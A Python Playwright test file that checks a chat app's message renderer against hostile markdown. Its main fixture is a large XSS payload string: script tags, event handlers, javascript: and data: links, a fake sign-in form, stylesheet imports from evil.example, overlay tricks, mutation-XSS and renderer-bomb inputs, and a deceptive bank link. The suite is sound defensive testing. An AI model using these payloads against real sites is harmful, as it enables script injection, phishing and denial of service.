"""Text from models and people is hostile: it runs nothing, asks no other host, and doesn't cover the page's
controls."""

from itertools import count

import pytest
from playwright.async_api import BrowserContext, expect

from tests.support.eventually import eventually
from tests.support.provider import Finish, Say, ScriptedProvider
from tests.support.visitor import Tab, Visitor

HACK = "window.hacked=1"
FOREIGN = "https://evil.example"
MARKS = "\u0351" * 400
HOSTILE = f"""\
<script>{HACK}</script>
<script src="{FOREIGN}/a.js"></script>
<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>
<iframe src="javascript:parent.hacked=1"></iframe>
<form action="{FOREIGN}/form"><input name="Password" aria-label="Password"><button>Sign in</button></form>
<base href="{FOREIGN}/">
<meta http-equiv="refresh" content="0;url={FOREIGN}/refresh">
<link rel="stylesheet" href="{FOREIGN}/a.css">
<style>@import url({FOREIGN}/b.css); * {{ position: fixed; inset: 0; background: url({FOREIGN}/c) }}</style>
<div style="position:fixed;inset:0;z-index:99999;background:red" onclick="{HACK}" id="overlay">over everything</div>

<svg onload="{HACK}"><script>{HACK}</script><image href="{FOREIGN}/d.png"/><foreignObject><img src=x onerror="{HACK}">\
</foreignObject></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror="{HACK}">
<img src="{FOREIGN}/e.png" onerror="{HACK}"><video src="{FOREIGN}/f" autoplay></video>
<object data="{FOREIGN}/g"></object>
<a href="javascript:{HACK}" autofocus onfocus="{HACK}">raw</a>

![inline]({FOREIGN}/inline.png) ![reference][pic] ![data](data:image/svg+xml;base64,PHN2Zy8+) ![blank]()
![js](javascript:{HACK})

[script](javascript:{HACK}) [SCRIPT](JaVaScRiPt:{HACK}) [entity](&#106;avascript:{HACK}) [tab](java&Tab;script:{HACK})
[data](data:text/html,<script>{HACK}</script>) [vb](vbscript:{HACK}) [reference][js] <javascript:{HACK}>
[file](file:///etc/passwd) [blob](blob:{FOREIGN}/1) [a picture: ![p]({FOREIGN}/linked.png)]({FOREIGN}/link)
[quotes]({FOREIGN}/"onmouseover="{HACK})

[pic]: {FOREIGN}/reference.png
[js]: javascript:{HACK}

```mermaid
graph TD
  A["<img src=x onerror={HACK}>"] --> B
  click A href "javascript:{HACK}"
  %%{{init: {{"securityLevel": "loose", "themeCSS": "* {{ background: url({FOREIGN}/m) }}"}}}}%%
```

```html" onmouseover="{HACK}
<script>{HACK}</script>
```

$$
\\href{{javascript:{HACK}}}{{formula}} \\url{{{FOREIGN}/u}} \\includegraphics{{{FOREIGN}/k.png}}
\\htmlStyle{{position:fixed;inset:0;z-index:9999}}{{x}} \\htmlClass{{fixed inset-0}}{{y}} \\htmlData{{a=b}}{{z}}
\\rule{{9999em}}{{9999em}} \\kern{{-999em}}\\raisebox{{999em}}{{\\rule{{9999em}}{{9999em}}}}
$$

$$
\\def\\bomb{{\\bomb\\bomb}}\\bomb
$$

Z{MARKS}algo.

<details open ontoggle="{HACK}" style="position:fixed;inset:0"><summary onclick="{HACK}">Fold</summary>

<kbd style="position:fixed;inset:0;z-index:9999" onmouseover="{HACK}">key</kbd> <sub><script>{HACK}</script></sub>
<mark><iframe src="{FOREIGN}/h"></iframe></mark> <b><img src="{FOREIGN}/i" onerror="{HACK}"></b>
<su<sub>b onclick={HACK}> [<b onclick={HACK}>in a link</b>]({FOREIGN}/link) <b x="`">`<script>{HACK}</script>`</b>
<SCRIPT/SRC={FOREIGN}/j></SCRIPT>

</details>

<!--> <img src="{FOREIGN}/l" onerror="{HACK}"> --> <!--- <script>{HACK}</script> --!> -->
<![CDATA[<script>{HACK}</script>]]>
<?xml <script>{HACK}</script> ?> <!X <script>{HACK}</script>> &lt;script&gt;{HACK}&lt;/script&gt;
<u>never closed <details><summary>

<!-- a comment without an end <script>{HACK}</script>

The end.
"""

DEEP = {
    "quotes": ">" * 3000 + " deep",
    "lists": "- " * 3000 + "deep",
    "numbered lists": "1. " * 3000 + "deep",
    "indented lists": "\n".join("  " * depth + "- deep" for depth in range(300)),
    "links": "[" * 3000 + "deep" + "](b)" * 3000,
    "stars": "*" * 3000 + "deep" + "*" * 3000,
    "brackets": "![" * 3000 + "deep",
    "folds": "<details>\n" * 1000 + "deep\n" + "</details>\n" * 1000,
    "tags": "<b>" * 3000 + "deep" + "</b>" * 3000,
}

FORBIDDEN = """script, iframe, form, base, meta, link, style, object, video, img, image,
    [onload], [onclick], [onerror], [ontoggle], [onmouseover], [id=overlay], kbd[style], details[style]"""

_numbers = count(1)


@pytest.fixture
async def asked(ada: Visitor) -> list[str]:
    """Every address of another host that Ada's browser asks for."""
    return foreign_requests(ada.context, ada.url)


async def test_hostile_markdown_runs_nothing_loads_nothing_and_covers_nothing(
    ada: Visitor, provider: ScriptedProvider, asked: list[str]
):
    tab = await told(ada, provider, HOSTILE, ends="The end.")
    await is_harmless(tab)
    await tab.page.reload()
    await expect(tab.body(tab.answer)).to_contain_text("The end.")
    await is_harmless(tab)
    assert asked == []


async def test_what_a_person_writes_is_shown_as_it_is(ada: Visitor, provider: ScriptedProvider, asked: list[str]):
    provider.on("hostile question", Say("I see."), Finish())
    tab = await ada.tab()
    await tab.ask(f"A hostile question\n{HOSTILE}")
    await tab.shows_status("completed")
    await is_harmless(tab)
    assert await tab.body(tab.messages.first).locator("a, button, img").count() == 0
    assert asked == []


@pytest.mark.parametrize("kind", DEEP)
async def test_text_nested_beyond_all_sense_is_shown_as_it_came(ada: Visitor, provider: ScriptedProvider, kind: str):
    tab = await told(ada, provider, DEEP[kind], ends="deep")
    await expect(tab.composer).to_be_editable()
    assert await tab.page.evaluate("1 + 1") == 2


async def test_a_rule_and_a_drawing_are_not_taken_for_nesting(ada: Visitor, provider: ScriptedProvider):
    tab = await told(ada, provider, f"# Title\n\n{'- ' * 200}\n\n```\n+{'-' * 300}+\n```\n\nThe end.", ends="The end.")
    await expect(tab.answer.locator("h1")).to_have_text("Title")
    await expect(tab.answer.locator("hr")).to_have_count(1)


async def test_a_link_is_opened_after_it_showed_where_it_leads(ada: Visitor, provider: ScriptedProvider):
    address = f"https://bank.example@evil.example:8443/{'x' * 20}?q=\u202egpj"
    tab = await told(ada, provider, f"Go to [https://bank.example](<{address}>) now.", ends="now.")
    link = tab.answer.get_by_role("link")
    await link.focus()
    await tab.page.keyboard.press("Enter")
    dialog = tab.page.get_by_role("dialog", name="This link leads to evil.example:8443")
    await expect(dialog).to_contain_text("https://bank.example@evil.example:8443/")
    await tab.page.keyboard.press("Escape")
    await expect(dialog).to_have_count(0)
    await link.click(button="middle")
    await expect(dialog).to_be_visible()
    assert len(ada.context.pages) == 1
    opening = dialog.get_by_role("link", name="Open")
    assert await opening.get_attribute("rel") == "noopener noreferrer"
    async with ada.context.expect_page() as opened:
        await opening.click()
    assert await (await opened.value).evaluate("window.opener") is None
    await expect(dialog).to_have_count(0)


async def test_a_picture_is_loaded_after_a_click_that_showed_its_address(ada: Visitor, provider: ScriptedProvider):
    await ada.context.route(f"{FOREIGN}/**", lambda route: route.fulfill(content_type="image/svg+xml", body=PICTURE))
    asked = foreign_requests(ada.context, ada.url)
    tab = await told(ada, provider, f"[![a cat]({FOREIGN}/cat.svg)]({FOREIGN}/away) The end.", ends="The end.")
    button = tab.answer.get_by_role("button", name="Load the image “a cat” from evil.example")
    await expect(button).to_contain_text(f"{FOREIGN}/cat.svg")
    assert asked == []
    await button.click()
    await eventually_loaded(tab)
    assert asked == [f"{FOREIGN}/cat.svg"]
    assert await tab.page.get_by_role("dialog").count() == 0
    tab.errors.clear()  # the one request was asked for


PICTURE = '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="10"/>'


async def told(visitor: Visitor, provider: ScriptedProvider, text: str, *, ends: str) -> Tab:
    """A tab in which a model has said this, in pieces."""
    question = f"Number {next(_numbers)}."
    provider.on(question, *(Say(text[at : at + 97]) for at in range(0, len(text), 97)), Finish())
    tab = await visitor.tab()
    await tab.ask(question)
    await tab.shows_status("completed")
    await expect(tab.body(tab.answer)).to_contain_text(ends)
    return tab


async def is_harmless(tab: Tab) -> None:
    assert await tab.page.evaluate("window.hacked") is None
    assert await tab.page.locator("[data-message-body]").locator(FORBIDDEN).count() == 0
    addresses = await tab.page.locator("[data-message-body] a").evaluate_all("all => all.map((a) => a.protocol)")
    assert set(addresses) <= {"https:", "http:", "mailto:"}
    for name in ("Message", "Send", "Settings", "Sign out"):
        await is_uncovered(tab, name)


async def is_uncovered(tab: Tab, label: str) -> None:
    """A click on this control reaches the control."""
    control = tab.page.get_by_label(label, exact=True)
    hit = """(control) => {
        const box = control.getBoundingClientRect();
        const at = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
        return control === at || control.contains(at);
    }"""
    assert await control.evaluate(hit), label


async def eventually_loaded(tab: Tab) -> None:
    image = tab.answer.get_by_role("img", name="a cat")
    await expect(image).to_be_visible()

    async def is_loaded() -> bool:
        return await image.evaluate("image => image.naturalWidth") == 20

    await eventually(is_loaded)


def foreign_requests(context: BrowserContext, url: str) -> list[str]:
    asked: list[str] = []
    own = (url, url.replace("http", "ws", 1), "data:", "blob:")
    context.on("request", lambda request: None if request.url.startswith(own) else asked.append(request.url))
    return asked
